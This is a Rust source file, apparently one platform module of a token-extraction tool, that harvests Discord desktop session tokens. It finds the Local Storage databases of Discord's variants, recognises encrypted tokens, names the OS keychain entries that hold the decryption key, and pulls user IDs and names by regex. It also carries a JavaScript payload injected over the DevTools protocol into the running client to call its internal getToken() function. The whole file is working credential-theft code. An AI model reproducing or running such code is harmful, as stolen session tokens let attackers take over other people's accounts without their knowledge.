use std::path::{Path, PathBuf};
use std::sync::LazyLock;

use regex::Regex;

use super::{AccountContext, CdpProbe, Platform, PlatformAdapter, UNKNOWN};
use crate::paths::{Os, StoreLocation, app_support_root};

// Three dot-separated base64url segments; legacy mfa tokens also occur.
static TOKEN: LazyLock<Regex> = LazyLock::new(|| {
    Regex::new(
        r"(mfa\.[A-Za-z0-9_-]{80,95}|[A-Za-z0-9_-]{23,28}\.[A-Za-z0-9_-]{6,7}\.[A-Za-z0-9_-]{25,110})",
    )
    .unwrap()
});
static USER_ID: LazyLock<Regex> = LazyLock::new(|| Regex::new(r"\b\d{17,20}\b").unwrap());
static USER_NAME: LazyLock<Regex> =
    LazyLock::new(|| Regex::new(r#""(?:global_name|username)":"([^"]{1,40})""#).unwrap());

/// Stored encrypted tokens are prefixed with this literal in the LevelDB
/// store, followed by base64 of the versioned ciphertext.
const ENCRYPTED_MARKER: &[u8] = b"dQw4w9WgXcQ:";

/// Walks the app's webpack module registry for the module exposing a
/// `getToken()` accessor and returns its value.
const TOKEN_EVAL: &str = r#"(() => {
  try {
    const req = webpackChunkdiscord_app.push([[Symbol()], {}, m => m]);
    webpackChunkdiscord_app.pop();
    for (const mod of Object.values(req.c)) {
      try {
        const exp = mod?.exports?.default ?? mod?.exports;
        if (exp && typeof exp.getToken === 'function') {
          const token = exp.getToken();
          if (typeof token === 'string' && token.length > 20) return token;
        }
      } catch (_) {}
    }
    return null;
  } catch (_) {
    return null;
  }
})()"#;

fn whole_match(re: &Regex, s: &str) -> bool {
    re.find(s).is_some_and(|m| m.start() == 0 && m.end() == s.len())
}

/// Discord desktop (stable/canary/ptb): encrypted tokens in Local Storage,
/// with a CDP-based live fallback when static extraction fails.
pub struct Discord;

impl Discord {
    const VARIANTS: &'static [&'static str] = &["discord", "discordcanary", "discordptb"];
}

impl PlatformAdapter for Discord {
    fn platform(&self) -> Platform {
        Platform::Discord
    }

    fn store_candidates(&self, os: Os, home: &Path) -> Vec<StoreLocation> {
        Self::VARIANTS
            .iter()
            .map(|variant| StoreLocation::leveldb(&app_support_root(os, home, variant)))
            .collect()
    }

    fn encrypted_marker(&self) -> Option<&'static [u8]> {
        Some(ENCRYPTED_MARKER)
    }

    fn token_alphabet(&self, b: u8) -> bool {
        b.is_ascii_alphanumeric() || matches!(b, b'_' | b'-' | b'.')
    }

    fn is_valid_token(&self, s: &str) -> bool {
        whole_match(&TOKEN, s)
    }

    fn find_token(&self, s: &str) -> Option<String> {
        TOKEN.find(s).map(|m| m.as_str().to_string())
    }

    fn keychain_entries(&self) -> &[(&'static str, &'static str)] {
        &[
            ("discord Safe Storage", "discord Key"),
            ("discord Safe Storage", "discord"),
            ("Discord Safe Storage", "Discord Key"),
        ]
    }

    fn account_context(&self, window: &str) -> AccountContext {
        let id = USER_ID
            .find(window)
            .map(|m| m.as_str().to_string())
            .unwrap_or_else(|| UNKNOWN.to_string());
        let name = USER_NAME
            .captures(window)
            .and_then(|c| c.get(1))
            .map(|m| m.as_str().to_string())
            .unwrap_or_else(|| UNKNOWN.to_string());
        AccountContext { id, name }
    }

    fn cdp_probe(&self) -> Option<CdpProbe> {
        Some(CdpProbe {
            process_names: &["Discord.exe", "Discord", "discord"],
            page_domain: "discord.com",
            page_title: "discord",
            eval_expression: TOKEN_EVAL,
        })
    }

    fn launch_candidates(&self, os: Os, home: &Path) -> Vec<PathBuf> {
        match os {
            Os::MacOs => vec![PathBuf::from(
                "/Applications/Discord.app/Contents/MacOS/Discord",
            )],
            Os::Linux => vec![
                PathBuf::from("/usr/bin/discord"),
                PathBuf::from("/usr/share/discord/Discord"),
                PathBuf::from("/opt/discord/Discord"),
            ],
            Os::Windows => {
                // Update.exe keeps versioned app-* directories; newest first.
                let install = home.join("AppData").join("Local").join("Discord");
                let mut versions: Vec<PathBuf> = std::fs::read_dir(&install)
                    .into_iter()
                    .flatten()
                    .flatten()
                    .map(|e| e.path())
                    .filter(|p| {
                        p.is_dir()
                            && p.file_name()
                                .and_then(|n| n.to_str())
                                .is_some_and(|n| n.starts_with("app-"))
                    })
                    .collect();
                versions.sort();
                versions.reverse();
                versions.into_iter().map(|p| p.join("Discord.exe")).collect()
            }
        }
    }
}
